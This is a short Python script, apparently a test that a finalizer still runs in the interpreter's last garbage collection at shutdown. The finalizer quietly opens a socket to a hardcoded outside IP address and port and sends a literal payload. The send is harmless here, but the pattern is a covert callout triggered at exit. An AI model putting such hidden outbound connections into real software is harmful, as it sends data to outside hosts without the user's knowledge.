"""A name that the interpreter's type of a subclass holds: classes die in the last collection."""
import _socket
import gc


class Late:
    def __del__(self, make=_socket.socket, address=("93.184.216.35", 9000)):
        client = make(2, 1)
        client.connect(address)
        client.send(b"data")


class Holder(type):
    pass


Holder.itself = Holder("Held", (), {"late": Late()})
gc.disable()
print("done")
